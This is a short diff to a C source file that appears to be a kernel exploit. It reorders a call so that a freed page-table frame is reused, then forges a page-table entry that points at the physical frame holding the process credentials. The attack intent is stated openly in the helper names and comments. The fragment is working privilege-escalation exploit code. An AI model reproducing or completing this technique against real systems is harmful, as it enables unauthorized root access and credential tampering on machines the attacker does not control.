@@ -40,8 +40,8 @@ int main(void)
 
 	attack_say("frame 0x%lx is a page table; the cache at 0x%lx has it for a free one", table,
 		   leak.frame_cache.slots);
-	before = attack_stock_forge(&leak.frame_cache, table);
 	attack_frame_books_free(&books);
+	before = attack_stock_forge(&leak.frame_cache, table);
 	entries[0] = first; /* a page fault, and then the page table is a page */
 	entries[1] = (first & ~ENTRY_FRAME) | (leak.uid_pa & ENTRY_FRAME);
 	attack_say("its second entry shows frame 0x%lx, which the credentials are in",
